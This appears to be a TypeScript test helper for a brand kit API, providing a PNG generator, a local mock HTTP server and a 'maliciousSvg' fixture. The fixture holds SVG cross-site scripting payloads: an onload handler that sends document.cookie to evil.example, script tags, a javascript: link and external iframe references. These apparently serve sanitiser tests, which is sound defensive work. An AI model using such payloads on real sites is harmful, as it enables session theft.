// Shared by the brand kit API tests: a local "public" site serving logos, pages and stylesheets (reached through
// the runtime's test-only outbound policy), PNG and SVG files, and error bodies.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { PNG } from 'pngjs';

export interface ErrorBody {
  error: string;
  code?: string;
  details?: Array<{ path: string; message: string }>;
}

/** A solid PNG of the given size. */
export function pngOf(
  width: number,
  height: number,
  rgb: [number, number, number] = [26, 115, 232],
): Uint8Array {
  const image = new PNG({ width, height });
  for (let i = 0; i < width * height; i++) image.data.set([...rgb, 255], i * 4);
  return new Uint8Array(PNG.sync.write(image));
}

export const maliciousSvg =
  '<?xml version="1.0" encoding="UTF-8"?>' +
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 300 100" onload="fetch(\'https://evil.example/\'+document.cookie)">' +
  '<script>alert(1)</script>' +
  '<a xlink:href="javascript:alert(2)"><rect width="300" height="100" fill="#e4572e" onmouseover="alert(3)"/></a>' +
  '<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>' +
  '<use href="https://evil.example/sprite.svg#logo"/>' +
  '<circle cx="150" cy="50" r="30" fill="#ffffff"/>' +
  '</svg>';

export interface Route {
  status?: number;
  type?: string;
  body?: Uint8Array | string;
  headers?: Record<string, string>;
  /** Write the headers, then a byte every `trickleMs` (a slow body). */
  trickleMs?: number;
}

export interface LocalSite {
  origin: string;
  routes: Map<string, Route>;
  /** Requests seen, by path. */
  hits: string[];
  close(): Promise<void>;
}

export async function startSite(): Promise<LocalSite> {
  const routes = new Map<string, Route>();
  const hits: string[] = [];
  const timers = new Set<NodeJS.Timeout>();
  const server = http.createServer((req, res) => {
    const path = (req.url ?? '/').split('?')[0]!;
    hits.push(path);
    const route = routes.get(path);
    if (!route) {
      res.writeHead(404, { 'content-type': 'text/plain' });
      res.end('not found');
      return;
    }
    res.writeHead(route.status ?? 200, {
      'content-type': route.type ?? 'application/octet-stream',
      ...route.headers,
    });
    if (route.trickleMs) {
      const timer = setInterval(() => res.write('.'), route.trickleMs);
      timers.add(timer);
      res.on('close', () => {
        clearInterval(timer);
        timers.delete(timer);
      });
      return;
    }
    res.end(route.body ?? '');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    origin,
    routes,
    hits,
    close: () =>
      new Promise<void>((resolve) => {
        for (const timer of timers) clearInterval(timer);
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
